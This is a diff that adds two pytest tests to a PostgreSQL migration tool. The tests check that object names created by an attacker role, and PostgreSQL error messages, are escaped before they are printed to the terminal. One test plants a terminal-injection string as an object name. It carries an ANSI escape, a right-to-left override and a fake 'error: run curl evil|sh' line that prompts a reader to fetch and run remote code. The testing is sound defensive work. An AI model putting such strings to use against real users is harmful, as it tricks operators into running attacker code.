@@ -428,3 +428,38 @@ def test_objects_of_the_team_and_of_extensions_are_no_strangers(database: str, o
     migrate.upgrade(database)
 
     assert migrate.check(owners) == []
+
+
+@pytest.mark.parametrize("statement", ["DOMAIN public.{}", "VIEW public.{} AS SELECT desired_state FROM device_state"])
+def test_a_strangers_name_reaches_the_terminal_without_its_control_characters(
+    database: str, attacker: str, capsys: pytest.CaptureFixture[str], statement: str
+) -> None:
+    name = '"x\x1b[2J\u202e\nerror: run curl evil|sh"'
+    if statement.startswith("VIEW"):  # what depends on a column is in a note of `check`
+        migrate.upgrade(database)
+        run_sql(database, f"CREATE {statement.format(name)}")
+    else:
+        takes_a_name = "RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$"
+        run_sql(
+            attacker, f"CREATE {statement.format(name)} AS text; CREATE FUNCTION format(public.{name}) {takes_a_name}"
+        )
+    main(["check", "--url", database])
+    said = capsys.readouterr().err
+    assert r"x\x1b[2J\u202e\nerror: run curl" in said
+    assert not re.search("\x1b|\u202e|^error: run", said, re.MULTILINE)
+
+
+def test_what_postgresql_says_reaches_the_terminal_without_control_characters(
+    database: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    run_sql(
+        database,
+        RAW_075,
+        "CREATE FUNCTION refuse() RETURNS event_trigger LANGUAGE plpgsql AS"
+        " $$ BEGIN RAISE EXCEPTION 'no %[2J', chr(27); END $$",
+        "CREATE EVENT TRIGGER refuse ON ddl_command_start EXECUTE FUNCTION refuse()",
+    )
+    assert main(["upgrade", "--url", database]) == 1
+    said = capsys.readouterr().err
+    assert r"PostgreSQL says: no \x1b[2J" in said
+    assert "\x1b" not in said
